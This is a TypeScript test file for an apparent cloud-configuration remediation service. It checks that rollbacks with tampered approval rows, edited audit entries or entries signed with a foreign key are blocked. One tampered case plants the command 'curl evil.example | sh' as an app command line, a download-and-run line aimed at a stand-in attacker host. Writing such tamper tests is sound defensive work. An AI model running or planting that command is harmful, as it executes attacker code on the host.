/** What somebody who may write tables, but cannot sign, makes of a rollback: nothing is written for it. */
import { describe, expect, test } from 'vitest';
import type { Approval } from '../../../src/domain/approvals/approval.ts';
import { type AuditEntry, parseAuditKeys } from '../../../src/domain/audit/audit.ts';
import { seal } from '../../../src/domain/audit/seal.ts';
import { SHOP } from '../../fakes/azure/resources.ts';
import { approvals, rollbackOf } from '../../fakes/scenarios/scenarios.ts';
import type { Scene } from '../../fakes/scenarios/scene.ts';
import { fixed, TLS, tlsNow } from './rolling-back.ts';

const other = parseAuditKeys(`k1:${Buffer.alloc(32, 8).toString('base64')}`).signing;

/** A rollback that a person asked for, its row and its fix's entry as somebody left them in the tables. */
async function tampered(
  row: (asked: Approval) => object,
  entry: (fix: AuditEntry) => object = () => ({}),
): Promise<Scene> {
  const made = await fixed();
  const { world, host } = made;
  const asked = await host.rollBack(rollbackOf(world));
  const { entries, approvals: rows } = world.stored;
  rows.set(asked.id, { value: { ...asked, ...row(asked) }, version: rows.get(asked.id)?.version ?? 1 });
  const at = entries.findIndex(({ id }) => id === asked.auditIds[0]);
  const fix = entries[at];
  if (!fix) throw new Error('the rollback names its fix');
  entries[at] = { ...fix, ...entry(fix) };
  await host.settle();
  return made;
}

const change = (path: string, from: string | null, to: string) => [{ document: 'config/web' as const, path, from, to }];
const forged = (fix: AuditEntry) => {
  const { hash: _h, signature: _s, keyId: _k, ...content } = fix;
  return seal({ ...content, changes: change(TLS, '1.1', '1.2') }, other);
};

describe('a rollback is the way back of a signed fix, or nothing', () => {
  test('left alone it is written', async () => {
    const { world } = await tampered(() => ({}));
    expect([tlsNow(world), approvals(world)[0]?.status]).toEqual(['1.0', 'applied']);
  });

  test.each<[string, Parameters<typeof tampered>[0], Parameters<typeof tampered>[1]?]>([
    ['another value', () => ({ changes: change(TLS, '1.2', '1.1') })],
    ['another place', () => ({ changes: change('/properties/appCommandLine', null, 'curl evil.example | sh') })],
    ['no fix', () => ({ auditIds: [] })],
    ['an intent', (asked) => ({ auditIds: [...asked.auditIds].reverse() })],
    ['another rule', (asked) => ({ rule: { ...asked.rule, id: 'webapp-https-only' } })],
    ['an edited entry', () => ({ changes: change(TLS, '1.2', '1.1') }), () => ({ changes: change(TLS, '1.1', '1.2') })],
    ['an entry that another key signed', () => ({ changes: change(TLS, '1.2', '1.1') }), forged],
  ])('%s: nothing is written, the approval says why, and the log of the service too', async (_, row, entry) => {
    const { world } = await tampered(row, entry);
    expect(tlsNow(world)).toBe('1.2');
    expect(world.arm.valueOf(SHOP, 'config/web', '/properties/appCommandLine')).toBeNull();
    expect(approvals(world)).toMatchObject([
      { status: 'blocked', reasons: [{ text: expect.stringMatching(/^Nothing is written: /) }] },
    ]);
    expect(world.stored.entries.filter(({ kind }) => kind.startsWith('rollback.'))).toEqual([]);
  });
});
